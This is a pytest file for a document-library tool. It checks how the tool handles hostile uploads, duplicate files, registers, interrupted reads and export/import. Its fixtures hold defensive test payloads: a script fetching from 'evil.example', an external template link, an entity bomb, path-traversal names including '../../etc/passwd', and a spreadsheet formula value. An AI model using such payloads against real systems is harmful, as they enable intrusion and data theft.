"""The library as people meet it: adding, hostile files, a kill midway, and plain files out and back."""

from __future__ import annotations

import csv
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from commands import run
from no_records import without_records
from papers import (
    SENTENCE,
    WELSH,
    docx,
    entity_bomb,
    lines,
    locked_pdf,
    paragraph,
    pdf,
    scanned_pdf,
    write,
)

COVER = "book: paper-town\ntitle: Paper Town\narea_kind: ward\nareas: areas.csv\n"
AREAS = "code,name\nE05000026,Abbey\nE05000027,Alibon\n"


@pytest.fixture
def book(tmp_path: Path) -> Path:
    """A book with nothing in it but two areas."""
    return empty(tmp_path / "book")


def empty(folder: Path) -> Path:
    """Such a book, with no document in its library."""
    write(folder, book_yaml=COVER, areas_csv=AREAS)
    without_records(folder)
    return folder


def text(number: int, times: int = 8) -> str:
    """A document of its own of some words."""
    return f"Plan {number} of a town. " + f"{SENTENCE} " * times + f"It ends with {number}."


def add(book: Path, *words: object) -> list[str]:
    """Add to the library; what it said on both sides, line by line."""
    said = run("library", "add", *words, "--book", book, "--by", "a test")
    assert said.code == 0, said.err
    return [*said.lines, *said.err.splitlines()]


def ids(book: Path) -> dict[str, list[str]]:
    """The passages of each document, by its first name, in order."""
    from placebook.store.library import Library
    from placebook.web.library.records import documents

    held = Library(book)
    return {one.names[0]: [p.id for p in held.passages(one.id)] for one in documents()}


def test_every_hostile_file_gets_a_sentence_and_the_rest_goes_on(book: Path, tmp_path: Path) -> None:
    outside = (
        '<Relationship Id="r9" TargetMode="External" Type="x/attachedTemplate" Target="https://evil.example/t.dotm"/>'
    )
    papers = write(
        tmp_path / "papers",
        good_pdf=pdf([lines(text(1))]),
        welsh_txt=WELSH * 12,
        empty_txt=b"",
        spaces_txt=b" \n \n",
        cut_pdf=pdf([lines(text(2))] * 3)[:900],
        locked_pdf=locked_pdf(text(3)),
        scan_pdf=scanned_pdf(),
        macros_docx=docx(paragraph(text(4)), {"word/vbaProject.bin": b"x" * 100}, outside),
        entities_docx=entity_bomb(),
        broken_docx=docx(paragraph(text(5)))[:700],
        script_html=f"<html><script>fetch('https://evil.example')</script><body><p>{text(6)}</p></body></html>",
        deep_html="<div>" * 100_000 + "deep",
        noise_pdf=b"%PDF-1.4\n" + bytes(range(256)) * 20,
    )
    (papers / "..%2f..%2fetc\u202efdp.txt").write_text(text(7), encoding="utf-8")
    said = "\n".join(add(book, papers))
    assert "14 new" in said
    found = "\n".join(run("library", "problems", "--book", book).lines)
    for name, words in {
        "empty.txt": "is empty",
        "spaces.txt": "holds no words",
        "cut.pdf": "",
        "locked.pdf": "is locked with a password",
        "scan.pdf": "cannot be read on page 1, with a picture and no text",
        "macros.docx": "holds macros, which were not run",
        "entities.docx": "",
        "broken.docx": "cannot be opened as a Word file",
        "script.html": "holds 1 script, which was not run",
        "noise.pdf": "cannot be opened as a PDF",
    }.items():
        assert any(name in line and words in line for line in found.splitlines()), (name, found)
    assert "links to 1 place outside, which was not followed" in found
    made = ids(book)
    assert all(made[name] for name in ("good.pdf", "welsh.txt", "macros.docx", "script.html"))
    assert "language      cy (from its words)" in run("library", "show", "welsh.txt", "--book", book).lines
    assert not [path for path in tmp_path.rglob("*") if "etc" in path.name and path.parent != papers]


def test_the_same_file_under_two_names_is_one_document_and_adding_again_changes_nothing(
    book: Path, tmp_path: Path
) -> None:
    papers = write(
        tmp_path / "papers", one_txt=text(1), two_txt=text(1), near_txt=text(1) + " One more.", other_txt=WELSH * 9
    )
    assert "3 new, 1 changed in what is said of them, 0 there before." in add(book, papers)
    before = ids(book)
    assert "0 new, 0 changed in what is said of them, 4 there before." in add(book, papers)
    assert ids(book) == before
    found = "\n".join(run("library", "problems", "--book", book).lines)
    assert "came under 2 names and is kept once: two.txt" in found
    assert found.count("are nearly the same text") == 1


def test_a_register_says_what_each_file_is_and_what_it_cannot_is_said(book: Path, tmp_path: Path) -> None:
    write(tmp_path / "papers", plan_txt=text(1), other_txt=text(2))
    write(
        tmp_path,
        list_csv="which,who,state,web\nplan.txt,Aberdeen City,Approved 2021,https://example.org/p\n"
        "../../etc/passwd,Nowhere,Draft,\n,,Draft,x\n",
        list_yaml="register: list.csv\ncolumns: {file: which, body_name: who, status: state, address: web}\n"
        "same_for_all: {type: climate plan}\nstatus: {Approved*: adopted}\n",
    )
    said = "\n".join(add(book, tmp_path / "papers", "--register", tmp_path / "list.yaml"))
    assert "row 3: names the file '../../etc/passwd', which is not there" in said
    assert "1 row names no file" in said
    shown = run("library", "show", "plan.txt", "--book", book).lines
    assert {"body          Aberdeen City (S12000033)", "status        adopted", "type          climate plan"} <= set(
        shown
    )
    assert "status        not said" in run("library", "show", "other.txt", "--book", book).lines
    assert run("library", "add", "--register", tmp_path / "no.csv", "--book", book).code == 2


def test_texts_inside_a_register_become_documents_with_pages_and_cut_ones_are_said(book: Path, tmp_path: Path) -> None:
    with (tmp_path / "plans.csv").open("w", newline="", encoding="utf-8") as file:
        rows = [["gss", "name", "text", "cut"], ["S12000033", "A plan", f"{text(1)} _x000C_ {text(2)}", "True"]]
        csv.writer(file).writerows([*rows, ["X1", "B", text(3), "False"]])
    write(
        tmp_path,
        plans_yaml="register: plans.csv\npage_mark: _x000C_\ncolumns: {body: gss, title: name, text: text, cut: cut}\n",
    )
    said = "\n".join(add(book, "--register", tmp_path / "plans.yaml"))
    assert "plans.csv, row 3: 'X1' is no GSS code" in said
    shown = run("library", "show", "plans.csv, row 2", "--book", book).lines
    assert "title         A plan" in shown
    assert any(line.startswith("note          cut short") for line in shown)
    page = run("library", "show", "plans.csv, row 2", "--page", 2, "--book", book)
    assert "Plan 2 of a town" in page.out
    found = run("library", "show", "plans.csv, row 2", "--quote", "It ends with 2.", "--book", book)
    assert ", page 2, characters" in found.out
    refused = run("library", "show", "plans.csv, row 2", "--quote", "It ends with 3.", "--book", book)
    assert refused.code == 2
    assert "the quote is refused" in refused.err


MANY = 64  # papers: more than are read before whoever kills the reading sees that it has begun


@pytest.mark.slow
def test_a_reading_that_is_killed_goes_on_where_it_stopped(book: Path, tmp_path: Path) -> None:
    papers = write(tmp_path / "papers", **{f"p{n}_txt": text(n, 200) for n in range(MANY)})
    whole = empty(tmp_path / "whole")
    add(whole, papers)
    expected = ids(whole)
    without_records(book)
    from placebook.store.library import Library

    command = [sys.executable, "-m", "placebook", "library", "add", str(papers), "--book", str(book), "--at-once", "1"]
    program = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    held = Library(book)
    until = time.monotonic() + 60
    while not len(held.readings()) >= 3 and time.monotonic() < until:
        time.sleep(0.01)
    if sys.platform == "win32":
        program.kill()
    else:
        os.kill(program.pid, signal.SIGKILL)
    program.wait()
    done = len(held.readings())
    assert 3 <= done < MANY
    said = add(book, papers)
    assert any(line.startswith(f"{MANY - done} read now, 0 not.") for line in said)
    assert ids(book) == expected


def test_the_library_comes_back_from_its_plain_files_unchanged(book: Path, tmp_path: Path) -> None:
    papers = write(tmp_path / "papers", one_txt=text(1), two_pdf=pdf([lines(text(2))] * 2), no_pdf=locked_pdf("x"))
    add(book, papers, "--all", "status=draft", "--all", "title==1+1")
    add(book, papers / "one.txt", "--all", "status=adopted")
    out, again = tmp_path / "out", tmp_path / "again"
    assert run("library", "export", out, "--book", book).code == 0
    assert ",'=1+1," in (out / "documents.csv").read_text(encoding="utf-8")
    other = empty(tmp_path / "other")
    assert run("library", "import", out, "--book", other).lines[0] == "3 documents came back."
    assert run("library", "export", again, "--book", other).code == 0
    for path in sorted(out.rglob("*")):
        if path.is_file():
            assert (again / path.relative_to(out)).read_bytes() == path.read_bytes(), path
    assert len((out / "history.csv").read_text(encoding="utf-8").splitlines()) == 5
    file = next((out / "files").iterdir())
    file.write_bytes(b"changed")
    third = empty(tmp_path / "third")
    said = run("library", "import", out, "--book", third)
    assert said.code == 2
    assert "is not the file that was received" in said.err
    assert run("library", "list", "--book", third).lines == ["0 documents."]
